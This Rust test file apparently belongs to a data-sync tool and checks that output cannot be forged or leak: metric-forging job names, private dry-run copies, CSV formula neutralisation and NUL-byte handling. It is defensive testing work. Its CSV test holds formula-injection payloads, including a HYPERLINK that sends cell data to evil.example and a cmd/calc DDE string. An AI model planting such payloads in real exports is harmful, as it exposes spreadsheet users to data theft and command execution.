//! Output that cannot be forged or leak: job names that would forge metrics,
//! dry-run copies, CSV cells a spreadsheet would run, and NUL bytes, the same
//! on both engines.

use crate::MOCK;
use nuntiq_e2e::*;
use serde_json::json;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Child, Stdio};
use std::time::{Duration, Instant};

#[test]
fn serve_refuses_a_job_name_that_could_forge_metrics() {
    for name in ["trail\\", "x\"} 99999 # fake", "two\nlines"] {
        let work = Workdir::new();
        let jobs = work.path("jobs.toml");
        let quoted = serde_json::to_string(name).unwrap();
        std::fs::write(
            &jobs,
            format!("[[job]]\nname = {quoted}\nplugin = \"p.wasm\"\nsettings = \"s.json\"\nevery = \"1m\"\n"),
        )
        .unwrap();
        let db = work.db();
        let (code, _, stderr) = host_output(&["serve", jobs.to_str().unwrap(), "--db", db.to_str().unwrap()]);
        assert_eq!(code, 2, "{name:?}: {stderr}");
        // Named as the jobs file spells it, escaped.
        let named = format!("job {name:?}: name must be 1 to 128 ASCII letters, digits, '_', '-' and '.'");
        assert!(stderr.contains(&named), "{name:?}: {stderr}");
        assert_eq!(stderr.lines().count(), 1, "one line, nothing forged: {stderr}");
        assert!(!db.exists(), "nothing was started, not even the store");
    }
}

/// The dry-run directories in `tmp`.
fn dry_run_dirs(tmp: &Path) -> Vec<PathBuf> {
    let mut dirs: Vec<PathBuf> = std::fs::read_dir(tmp)
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| p.file_name().unwrap().to_string_lossy().starts_with("nuntiq-dry-run-"))
        .collect();
    dirs.sort();
    dirs
}

fn mode(path: &Path) -> u32 {
    std::fs::symlink_metadata(path).unwrap().permissions().mode() & 0o777
}

/// A dry run with `TMPDIR=tmp`, as a child process.
fn spawn_dry_run(mock: &Mock, settings: &Path, db: &Path, tmp: &Path) -> Child {
    host_command()
        .env("TMPDIR", tmp)
        .args(acme_args(mock, settings, db, &["--dry-run"]))
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap()
}

/// Waits until `tmp` holds a dry run's copy with its WAL, other than those
/// in `known`, and returns its directory.
fn copy_in_flight(tmp: &Path, known: &[PathBuf]) -> PathBuf {
    let started = Instant::now();
    loop {
        let dirs = dry_run_dirs(tmp);
        if let Some(dir) = dirs
            .iter()
            .find(|d| !known.contains(d) && d.join("copy.db-wal").exists())
        {
            return dir.clone();
        }
        assert!(
            started.elapsed() < Duration::from_secs(30),
            "no dry-run copy appeared: {dirs:?}"
        );
        std::thread::sleep(Duration::from_millis(20));
    }
}

#[test]
fn a_killed_dry_runs_private_copy_is_removed_by_the_next_dry_run() {
    let mock = Mock::start(MOCK, 40);
    // Dry runs held up by an API that answers after 20 s.
    let slow = Mock::start(MOCK, 40);
    slow.faults(json!([{"action": "delay", "delay_ms": 20000, "times": 10}]));
    let work = Workdir::new();
    let settings = work.write_settings("settings.json", &acme_settings(&mock.api_url(), "acme_eu"));
    let held_up = work.write_settings("slow.json", &acme_settings(&slow.api_url(), "acme_eu"));
    let honest = run_acme(&mock, &settings, &work.db(), &[]);
    assert_eq!(honest.code, 0, "{}", honest.stderr);
    std::fs::set_permissions(work.db(), std::fs::Permissions::from_mode(0o600)).unwrap();
    let tmp = work.path("tmp");
    std::fs::create_dir(&tmp).unwrap();
    std::fs::set_permissions(&tmp, std::fs::Permissions::from_mode(0o1777)).unwrap();

    // While it runs, the copy is private: a 0700 directory, 0600 files.
    let mut killed = spawn_dry_run(&slow, &held_up, &work.db(), &tmp);
    let dir = copy_in_flight(&tmp, &[]);
    assert_eq!(mode(&dir), 0o700, "{}", dir.display());
    let files: Vec<PathBuf> = std::fs::read_dir(&dir).unwrap().map(|e| e.unwrap().path()).collect();
    assert!(files.len() >= 2, "the copy and its WAL: {files:?}");
    for file in &files {
        assert_eq!(mode(file), 0o600, "{}", file.display());
    }
    // It holds the real store's data.
    assert_eq!(
        Db::open(&dir.join("copy.db")).count("supplier"),
        Db::open(&work.db()).count("supplier")
    );

    // SIGKILL: no destructor runs, the copy stays behind.
    killed.kill().unwrap();
    killed.wait().unwrap();
    assert_eq!(
        dry_run_dirs(&tmp),
        std::slice::from_ref(&dir),
        "a killed dry run leaves its copy"
    );

    // The next dry run removes it, leaves a live dry run's copy alone, and
    // leaves nothing of its own.
    let mut live = spawn_dry_run(&slow, &held_up, &work.db(), &tmp);
    let live_dir = copy_in_flight(&tmp, std::slice::from_ref(&dir));
    let next = finish(spawn_dry_run(&mock, &settings, &work.db(), &tmp));
    assert_eq!(next.code, 0, "{}", next.stderr);
    assert!(!dir.exists(), "the killed dry run's copy is removed");
    assert_eq!(
        dry_run_dirs(&tmp),
        std::slice::from_ref(&live_dir),
        "the live dry run's copy stays"
    );
    live.kill().unwrap();
    live.wait().unwrap();
    let next = finish(spawn_dry_run(&mock, &settings, &work.db(), &tmp));
    assert_eq!(next.code, 0, "{}", next.stderr);
    assert_eq!(dry_run_dirs(&tmp), Vec::<PathBuf>::new());
}

/// What a spreadsheet must not run, as OWASP lists it: `= + - @`, tab, carriage return.
fn neutralised(value: &str) -> String {
    if value.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{value}")
    } else {
        value.to_owned()
    }
}

#[test]
fn csv_export_neutralises_cells_a_spreadsheet_would_run() {
    let mock = Mock::start(MOCK, 20);
    let formulas = [
        "=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")",
        "+SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
    ];
    for (i, formula) in formulas.iter().enumerate() {
        mock.patch(&format!("ACME-{:06}", i + 1), json!({ "name": formula }));
    }
    mock.patch(
        "ACME-000005",
        json!({"name": "Tab Ltd", "address": {"street": "\t=1+1", "city": "\r=2+2", "country": "NL"}}),
    );
    let work = Workdir::new();
    let settings = work.write_settings("settings.json", &acme_settings(&mock.api_url(), "acme_eu"));
    let run = run_acme(&mock, &settings, &work.db(), &[]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let db = work.db();
    let db = db.to_str().unwrap();

    // The store and JSON lines keep the source's text exactly.
    let (code, jsonl, _) = host_output(&["suppliers", "export", "--db", db]);
    assert_eq!(code, 0);
    let exact: Vec<serde_json::Value> = jsonl.lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    let names: Vec<&str> = exact.iter().map(|s| s["supplier_name"].as_str().unwrap()).collect();
    for formula in formulas {
        assert!(names.contains(&formula), "{formula} is stored as it came: {names:?}");
    }

    let (code, text, err) = host_output(&["suppliers", "export", "--db", db, "--format", "csv"]);
    assert_eq!(code, 0, "{err}");
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let header = reader.headers().unwrap().clone();
    let column = |name: &str| header.iter().position(|h| h == name).unwrap();
    let (number, name, street, city) = (
        column("supplier_number"),
        column("supplier_name"),
        column("address_street"),
        column("address_city"),
    );
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), exact.len());
    let mut quoted = 0;
    for (row, supplier) in rows.iter().zip(&exact) {
        assert_eq!(&row[number], supplier["supplier_number"].as_str().unwrap());
        assert_eq!(row[name], neutralised(supplier["supplier_name"].as_str().unwrap()));
        let address = &supplier["locations"][0]["addresses"][0];
        for (cell, field) in [(street, "street"), (city, "city")] {
            assert_eq!(row[cell], neutralised(address[field].as_str().unwrap_or("")), "{field}");
        }
        for cell in row.iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{cell:?} would run: {text}"
            );
            quoted += usize::from(cell.starts_with('\''));
        }
    }
    assert_eq!(quoted, formulas.len() + 2, "{text}");
}

/// Makes the store refuse a rejected row that says `store-refuses` (a
/// trigger of the test's own, as a full disk or a lost connection would).
fn refuse_marked_rejects(db: &Path) {
    let db = Db::open_writable(db);
    match db {
        Db::Sqlite(_) => {
            db.execute(
                "CREATE TRIGGER refuse_marked BEFORE INSERT ON rejected_record WHEN NEW.row LIKE '%store-refuses%'
                 BEGIN SELECT RAISE(ABORT, 'refused by the test'); END",
            );
        }
        Db::Postgres(_) => {
            db.execute(
                "CREATE FUNCTION refuse_marked() RETURNS trigger LANGUAGE plpgsql AS $$
                 BEGIN IF NEW.row LIKE '%store-refuses%' THEN RAISE EXCEPTION 'refused by the test'; END IF;
                 RETURN NEW; END $$",
            );
            db.execute(
                "CREATE TRIGGER refuse_marked BEFORE INSERT ON rejected_record
                 FOR EACH ROW EXECUTE FUNCTION refuse_marked()",
            );
        }
    }
}

on_both_engines!(
    nul_bytes_follow_one_rule_on_sqlite,
    nul_bytes_follow_one_rule_on_postgres,
    nul_bytes_follow_one_rule
);

/// A NUL in a supplier or an opaque cursor is refused, naming the field; a
/// rejected row keeps it escaped; a reject the store refused is not counted.
fn nul_bytes_follow_one_rule(db: &Path) {
    let mock = Mock::start(MOCK, 10);
    let work = Workdir::new();
    let settings = work.write_settings("acme.json", &acme_settings(&mock.api_url(), "acme_eu"));
    let honest = run_acme(&mock, &settings, db, &[]);
    assert_eq!(honest.code, 0, "{}", honest.stderr);
    refuse_marked_rejects(db);

    let nul = work.write_settings("nul.json", &acme_settings(&mock.api_url(), "nul_eu"));
    let run = nuntiq_host([
        "run-plugin",
        guest("nul-writer").to_str().unwrap(),
        nul.to_str().unwrap(),
        "--db",
        db.to_str().unwrap(),
        "--allow-host",
        &mock.allow_host(),
    ]);
    assert_eq!(run.code, 0, "{}\n{}", run.envelope, run.stderr);
    let answers = &run.envelope["answers"];
    let answer = |key: &str| answers[key].as_str().unwrap_or_else(|| panic!("{key}: {answers}"));
    assert_eq!(
        answer("name"),
        "supplier #1 (supplier_number \"NUL-1\"): supplier_name holds a NUL byte (U+0000), which the store \
         does not keep; nothing of this batch was queued"
    );
    assert!(
        answer("city").starts_with(
            "supplier #1 (supplier_number \"NUL-2\"): locations[0].addresses[0].city holds a NUL byte (U+0000)"
        ),
        "{answers}"
    );
    assert!(
        answer("token").contains("must not hold a NUL byte (U+0000)"),
        "{answers}"
    );
    assert_eq!((answer("reject"), answer("kept")), ("ok", "ok"));
    assert!(answer("refused").contains("refused by the test"), "{answers}");

    // The envelope counts what the store holds.
    assert_eq!(run.envelope["rejected"], 2, "{}", run.envelope);
    assert_eq!(run.envelope["inserted"], 1, "{}", run.envelope);
    let db = Db::open(db);
    let rejected = db.rows("SELECT row, reason FROM rejected_record WHERE connector_name = 'nul_eu' ORDER BY row");
    let rejected: Vec<Vec<&str>> = rejected
        .iter()
        .map(|r| r.iter().map(|c| c.as_deref().unwrap()).collect())
        .collect();
    assert_eq!(
        rejected,
        [
            vec![r#"{"name": "a\u0000b"}"#, "name holds a NUL"],
            vec![r#"{"name": "kept"}"#, "an honest reject"],
        ]
    );
    let counted =
        db.rows("SELECT rejected FROM delta_run WHERE connector_name = 'nul_eu' AND stream_name = 'suppliers'");
    assert_eq!(counted, [[Some("2".to_owned())]]);
    let stored = db.rows("SELECT supplier_number FROM supplier WHERE supplier_number LIKE 'NUL-%'");
    assert_eq!(stored, [[Some("NUL-OK".to_owned())]]);
    assert_eq!(
        db.state("nul_eu", "tokens").unwrap()["committed_cursor_value"],
        "token-1"
    );
}
